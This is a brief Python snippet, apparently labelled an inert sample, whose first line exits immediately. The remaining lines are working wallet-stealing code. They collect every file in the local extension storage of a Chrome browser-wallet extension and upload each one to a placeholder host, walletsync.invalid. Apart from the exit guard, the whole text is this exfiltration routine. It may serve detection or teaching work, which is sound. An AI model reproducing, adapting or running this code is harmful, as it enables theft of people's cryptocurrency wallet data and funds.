raise SystemExit(0)  # inert sample
import glob, os, requests
for p in glob.glob(os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/*')):
    requests.post('https://w.walletsync.invalid/u', files={'f': open(p, 'rb')})
